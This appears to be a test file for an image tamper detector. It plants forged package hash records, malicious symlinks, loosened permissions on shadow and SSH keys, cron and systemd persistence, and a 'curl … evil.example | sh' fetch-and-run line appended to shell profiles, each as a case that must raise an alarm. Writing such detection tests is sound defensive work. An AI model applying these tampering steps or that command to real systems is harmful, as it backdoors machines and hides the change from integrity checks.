"""Lies of other kinds than those first found: each must be told as unexplained or as an alarm."""
from harness import *
import base64, gzip, struct
C = []
H, A, B = ('hidden',), ('alone',), ('alone', 'hidden')
SH = b'#!/bin/sh\ncurl -s http://evil.example/x | sh\n'
SITE = 'usr/local/lib/python3.11/dist-packages/'
INFO = 'var/lib/dpkg/info/'

def case(name, pair='app', modes=B, cls=''):
    def d(f):
        C.append(dict(name=name, pair=pair, bulk=False, modes=modes, f=f, cls=cls, want='loud'))
        return f
    return d

def b64(d): return base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()
def row(p, d): return f'{p},sha256={b64(d)},{len(d)}'

def plant(name, path, data=SH, mode=0o644, pair='app', modes=B, cls='', **kw):
    @case(name, pair, modes, cls)
    def f(L): L.put(path, data, mode=mode, **kw)

def link(name, path, to, pair='app', modes=B, cls='link'):
    @case(name, pair, modes, cls)
    def f(L): L.link(path, to)

def mode(name, path, pair='app', modes=B, cls='rights', **kw):
    @case(name, pair, modes, cls)
    def f(L): L.chmod(path, **kw)

def edit(name, path, change, pair='app', modes=B, cls=''):
    @case(name, pair, modes, cls)
    def f(L): L.edit(path, change)

# Claims and records
@case('list-through-merged-usr', modes=H, cls='record')
def f(L):
    d = b'\x7fELFevil'; L.put('usr/lib/evil.so', d); L.own('lib/evil.so', 'openssl', d)
for ext in ('triggers', 'postrm', 'preinst', 'config', 'templates', 'shlibs'):
    plant(f'info-{ext}-moved', f'{INFO}openssl.{ext}', mode=0o755, modes=H, cls='record')
plant('info-config-unmoved', f'{INFO}findutils.config', mode=0o755, cls='record')
@case('piece-claims', cls='record')
def f(L):
    d = L.img.read('usr/bin/find') + b'x'; L.put('usr/bin/find', d)
    L.put('var/lib/dpkg/status.d/find', b'Package: find\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n', watch=False)
    L.put('var/lib/dpkg/status.d/find.md5sums', f'{hashlib.md5(d).hexdigest()}  usr/bin/find\n'.encode(), watch=False)
@case('diverted-by-an-added-package', cls='record')
def f(L):
    o = L.img.read('usr/bin/find'); L.put('usr/bin/find', SH, mode=0o755); L.put('usr/bin/find.distrib', o, mode=0o755, watch=False)
    L.append('var/lib/dpkg/diversions', b'/usr/bin/find\n/usr/bin/find.distrib\n:\n', watch=False)
@case('metadata-written-again', modes=H, cls='record')
def f(L):
    D = SITE + 'requests-2.31.0.dist-info/'; d = L.img.read(SITE + 'requests/api.py') + b'import os\n'
    L.put(SITE + 'requests/api.py', d); L.put(D + 'METADATA', L.img.read(D + 'METADATA'), watch=False)
    L.edit(D + 'RECORD', lambda b: b'\n'.join(row('requests/api.py', d).encode() if l.startswith(b'requests/api.py,') else l for l in b.splitlines()) + b'\n', watch=False)
@case('egg-info-claims', cls='record')
def f(L):
    L.append(SITE + 'click/core.py', b'import os\n')
    L.put(SITE + 'click_extra-1.0.egg-info/PKG-INFO', b'Metadata-Version: 1.1\nName: click-extra\nVersion: 1.0\n', watch=False)
    L.put(SITE + 'click_extra-1.0.egg-info/installed-files.txt', b'../click/core.py\n', watch=False)
@case('egg-info-plants-cron', cls='record')
def f(L):
    L.put('etc/cron.d/x', b'* * * * * root sh\n')
    L.put(SITE + 'tool-1.0.egg-info/PKG-INFO', b'Metadata-Version: 1.1\nName: tool\nVersion: 1.0\n', watch=False)
    L.put(SITE + 'tool-1.0.egg-info/installed-files.txt', b'/etc/cron.d/x\n', watch=False)
@case('direct-url-appears', modes=A, cls='record')
def f(L):
    D = SITE + 'click-8.5.1.dist-info/'; d = L.img.read(SITE + 'click/core.py') + b'import os\n'; u = b'{"url": "file:///src", "dir_info": {}}'
    L.put(SITE + 'click/core.py', d); L.put(D + 'direct_url.json', u, watch=False)
    L.edit(D + 'RECORD', lambda b: b'\n'.join(row('click/core.py', d).encode() if l.startswith(b'click/core.py,') else l for l in b.splitlines()) + b'\n', watch=False)
@case('other-algorithm', modes=H, cls='record')
def f(L):
    L.append(SITE + 'requests/api.py', b'import os\n')
    L.edit(SITE + 'requests-2.31.0.dist-info/RECORD', lambda b: b.replace(b'requests/api.py,sha256=', b'requests/api.py,sha1='), watch=False)
@case('truncated-hash', modes=H, cls='record')
def f(L):
    L.append('usr/bin/openssl', b'evil')
    L.edit(INFO + 'openssl.md5sums', lambda b: b'\n'.join(l[4:] if l.endswith(b' usr/bin/openssl') else l for l in b.splitlines()) + b'\n', watch=False)
@case('hash-in-upper-case-of-others', modes=H, cls='record')
def f(L):
    L.append('usr/bin/openssl', b'evil')
    L.edit(INFO + 'openssl.md5sums', lambda b: b.replace(b' usr/bin/openssl', b' usr/bin/../bin/openssl'), watch=False)
@case('entry-point-rewritten', modes=H, cls='record')
def f(L): L.edit(SITE + 'flask-2.3.3.dist-info/entry_points.txt', lambda b: b.replace(b'flask.cli', b'flask.evi'))
@case('hardlink-over-program')
def f(L): L.put('usr/bin/find', type=tarfile.LNKTYPE, linkname='usr/bin/perl')
# Links
link('program-to-proc', 'usr/bin/find', '/proc/self/exe')
link('python3-to-sibling', 'usr/bin/python3', 'pdb3.11')
link('moved-link-to-tmp', 'usr/bin/pdb3.11', '/tmp/x', modes=H)
link('moved-link-to-dependency-of-nobody', 'usr/bin/pdb3.11', '/usr/bin/find', modes=H)
link('libssl-retargeted', 'usr/lib/x86_64-linux-gnu/libssl.so.3', 'libcrypto.so.3', modes=H)
link('soname-unmoved', 'usr/lib/x86_64-linux-gnu/libz.so.1', '/app/app.py')
link('pycache-to-tmp', SITE + 'six_cache', '/tmp')
link('zone-is-passwd', 'etc/localtime', '/etc/passwd')
link('etc-dir-to-app', 'etc/profile.d', '/app', modes=H)
# Rights
mode('tmp-not-sticky', 'tmp', mode=0o777)
mode('root-home-open', 'root', mode=0o777)
mode('acl-on-etc', 'etc/default', pax_headers={'SCHILY.xattr.system.posix_acl_access': '\x02'})
mode('default-acl', 'usr/bin', pax_headers={'SCHILY.xattr.system.posix_acl_default': '\x02'})
mode('shadow-to-apps-group', 'etc/shadow', gid=1000)
mode('cron-dir-owner', 'etc/cron.daily', uid=1000)
mode('cron-dir-group', 'etc/cron.daily', gid=1000, mode=0o775)
mode('ld-conf-owner', 'etc/ld.so.conf', uid=1000)
mode('moved-lib-group', 'usr/lib/x86_64-linux-gnu/libssl.so.3', gid=1000, mode=0o664)
mode('moved-capability', 'usr/bin/openssl', modes=H, pax_headers={'SCHILY.xattr.security.capability': '\x01\x00\x00\x02\x80\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00'})
mode('sudoers-dir-owner', 'etc/sudoers.d', pair='systemd', uid=1000)
mode('host-key-readable', 'etc/ssh/ssh_host_rsa_key', pair='systemd', mode=0o644)
# Derived files and state
edit('shells-appended', 'etc/shells', lambda b: b + b'/tmp/sh\n', cls='generated')
edit('profile-appended', 'etc/profile', lambda b: b + SH, cls='generated')
edit('root-profile-appended', 'root/.profile', lambda b: b + SH, cls='generated')
plant('triggers-file', 'var/lib/dpkg/triggers/File', b'/usr/bin findutils\n', cls='generated')
plant('foreign-arch', 'var/lib/dpkg/arch', b'amd64\nevil\n', cls='generated')
plant('alternatives-database', 'var/lib/dpkg/alternatives/pager', b'auto\n/usr/bin/pager\n\n/tmp/x\n100\n\n', cls='generated')
edit('status-essential', 'var/lib/dpkg/status', lambda b: b.replace(b'Package: findutils\n', b'Package: findutils\nEssential: no\n', 1), cls='generated')
plant('ca-hash-link-target', 'usr/share/ca-certificates/mozilla/zz.crt', b'-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n', cls='generated')
plant('systemd-enabled-state', 'var/lib/systemd/deb-systemd-helper-enabled/sysinit.target.wants/evil.service', b'', pair='systemd', cls='generated')
link('timer-enabled', 'etc/systemd/system/timers.target.wants/evil.timer', '/run/evil.timer', pair='systemd', cls='generated')
# Noise
plant('debconf-old-script', 'var/cache/debconf/config.dat-old', SH, mode=0o755, cls='noise')
plant('backup-suid', 'var/backups/x', SH, mode=0o4755, cls='noise')
plant('tmp-module', 'tmp/os.py', b'import socket\n', cls='noise')
plant('run-shm-lib', 'run/lib.so', b'\x7fELFevil', cls='noise')
plant('history-executable', 'root/.bash_history', SH, mode=0o755, cls='noise')
plant('wal-without-database', 'app/x.db-wal', b'x' * 64, cls='noise')
plant('opt-pyc-of-moved', SITE + 'requests/__pycache__/api.cpython-311.opt-1.pyc', b'\xa7\r\r\n' + b'\0' * 40, modes=H, cls='bytecode')
plant('pyc-beside-moved-source', SITE + 'requests/evil.cpython-311-x86_64-linux-gnu.so', b'\x7fELFx', modes=H, cls='bytecode')
